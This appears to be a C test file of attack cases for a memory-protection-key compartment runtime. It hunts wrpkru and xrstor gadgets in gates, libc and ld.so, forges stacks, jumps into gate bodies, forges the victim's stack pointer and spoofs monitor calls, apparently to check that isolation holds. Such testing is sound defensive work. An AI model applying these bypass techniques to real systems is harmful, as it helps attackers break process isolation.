/* Into gates, but not at their beginning. */
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "tests/attacks/attack.h"
#ifdef UNDER_RUNTIME
#include "ia2/runtime/compartment.h"
#endif

enum { ALL = 0, VICTIMS = 0x45555610, EVERYBODYS = 0x45555554, WORDS = 4096 };
static const unsigned char wrpkru[] = {0x0f, 0x01, 0xef};

/* A stack full of addresses of code that the attacker wants to run. */
static uint64_t evil_stack(void) {
  uint64_t *const stack =
      mmap(0, WORDS * 8, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (int i = 0; stack != MAP_FAILED && i < WORDS; i++)
    stack[i] = (uint64_t)evil;
  return (uint64_t)(stack + WORDS / 2);
}

/* Its own gate to the victim, on the way back, with rights of its own choice. */
ATTACK(wrpkru_of_a_gate) {
  uint64_t gate = attack_find("attacker.so", (uint64_t)victim_do, wrpkru, sizeof wrpkru);
  gate = attack_find("attacker.so", gate, wrpkru, sizeof wrpkru);
  const uint64_t stack = evil_stack();
  attack_forge_stack_pointer(stack);
  attack_jump(gate, ALL, stack, (uint64_t)evil);
}

/* libc brings one, too. */
ATTACK(wrpkru_of_libc) {
  const uint64_t there = attack_find("libc.so.6", 0, wrpkru, sizeof wrpkru);
  if (!there)
    return ATTACK_NOTHING;
  attack_jump(there, ALL, evil_stack(), (uint64_t)evil);
}

/* ld.so's way to bind lazily restores registers by xrstor, which takes PKRU from memory. */
ATTACK(xrstor_of_ld_so) {
  static const unsigned char xrstor[] = {0x0f, 0xae, 0x6c, 0x24, 0x40}; /* 0x40(%rsp) */
  const uint64_t there = attack_find("ld-linux-x86-64.so.2", 0, xrstor, sizeof xrstor);
  if (!there)
    return ATTACK_NOTHING;
  /* Nothing is in its initial state, PKRU is 0; then the function's frame is taken down to rbx,
   * where its registers are popped and the function that it bound is jumped to. */
  uint64_t *const stack = (uint64_t *)evil_stack();
  uint64_t *const area = stack + 8;
  memset(area, 0, 4096);
  ((uint32_t *)area)[6] = 0x1f80;
  area[64] = 1 << 9;
  for (uint64_t i = 72; i < 512; i++)
    area[i] = 0;
  /* rax, edx: which components; r11 and what is popped: evil. */
  __asm__ volatile("mov %0, %%rsp\n\t"
                   "mov %1, %%rbx\n\t"
                   "mov %2, %%r11\n\t"
                   "mov $0x200, %%eax\n\t"
                   "xor %%edx, %%edx\n\t"
                   "jmp *%3"
                   :
                   : "r"(stack), "r"(stack + 1024), "r"((uint64_t)evil), "r"(there)
                   : "rbx", "rax", "rdx", "r11", "memory");
  __builtin_unreachable();
}

/* Every byte before and in every change of rights in the program, a child each.  Where the rights
 * are still to be loaded, it does not matter with which the attacker comes. */
static int tried(uint64_t target, uint64_t rights, uint64_t stack) {
  const uint64_t pid = SYSCALL_0(SYS_fork);
  if (pid == 0) {
    SYSCALL_1(SYS_close, 1);
    SYSCALL_1(SYS_close, 2);
    SYSCALL_1(SYS_alarm, 2);
    attack_forge_stack_pointer(stack);
    attack_jump(target, rights, stack, (uint64_t)evil);
  }
  waitpid((pid_t)pid, 0, 0);
  return attack_shared->found != 0;
}

static int sweep(const char *object, uint64_t stack) {
  for (uint64_t at = 0; (at = attack_find(object, at, wrpkru, sizeof wrpkru));) {
    if (tried(at, VICTIMS, stack) || tried(at, EVERYBODYS, stack))
      return 1;
    for (uint64_t target = at - 9; target < at + 3; target++)
      if (tried(target, ALL, stack))
        return 1;
  }
  return 0;
}

ATTACK(every_byte_of_gates) {
  const uint64_t stack = evil_stack();
  if (sweep("attacker.so", stack) || sweep("", stack) || sweep("libia2.so", stack))
    return attack_shared->found;
  return ATTACK_NOTHING;
}

/* Where gates find the stack of the victim: what it pushes goes where the attacker says. */
ATTACK(victims_stack_pointer_forged) {
#ifdef UNDER_RUNTIME
  extern __thread uint64_t ia2_head_1[] __attribute__((weak));
  volatile uint64_t *const where = ia2_head_1;
#else
  extern uint64_t plain_sp[];
  volatile uint64_t *const where = &plain_sp[1];
#endif
  const uint64_t forged = (uint64_t)attack_shared->global + 8;
#ifndef UNDER_RUNTIME
  const uint64_t own = *where;
#endif
  *where = forged;
  victim_do(VICTIM_NOTHING, 0);
#ifndef UNDER_RUNTIME
  *where = own; /* so that the victim can say what came of it */
#endif
  return ATTACK_NOTHING;
}

/* The gate by which the runtime starts code in the victim. */
ATTACK(start_gate) {
#ifdef UNDER_RUNTIME
  extern const struct ia2_compartment ia2_compartment_1 __attribute__((weak));
  ia2_compartment_1.start();
#endif
  return ATTACK_NOTHING;
}

/* While the victim waits for the runtime, and the runtime runs code of the attacker's: through the
 * victim's gate to the runtime, behind what says who calls. */
#ifdef UNDER_RUNTIME
_Noreturn void attack_call_monitor(uint64_t target, uint64_t rights, uint64_t op, uint64_t a,
                                   uint64_t b);

static void asks_in_the_victims_name(void) {
  static const unsigned char push_cookie[] = {0x68, 0x01, 0xa2, 0x01,
                                              0x00}; /* IA2_COOKIE_MONITOR */
  const uint64_t gate = attack_find("", 0, push_cookie, sizeof push_cookie);
  const uint64_t there = attack_find("", gate, wrpkru, sizeof wrpkru);
  attack_call_monitor(there, ALL, IA2_OP_ATEXIT, (uint64_t)evil, 0);
}
#endif

ATTACK(monitor_in_anothers_name) {
#ifdef UNDER_RUNTIME
  const int error = pthread_atfork(asks_in_the_victims_name, 0, 0);
  if (error)
    return (uint64_t)-error;
  return victim_do(VICTIM_FORKS, 0);
#else
  return ATTACK_NOTHING;
#endif
}
